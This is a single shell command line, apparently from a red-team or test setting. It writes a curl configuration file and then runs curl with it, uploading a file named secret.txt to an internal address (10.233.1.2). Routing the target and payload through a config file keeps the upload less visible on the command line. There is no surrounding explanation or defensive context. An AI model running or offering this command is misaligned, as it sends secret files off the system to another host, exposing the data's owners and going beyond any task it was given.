printf 'url = "http://10.233.1.2/U07"\ndata-binary = "@/srv/rt/s/d1/home/secret.txt"\n' > rt.curlrc; curl -s -m 3 -K rt.curlrc
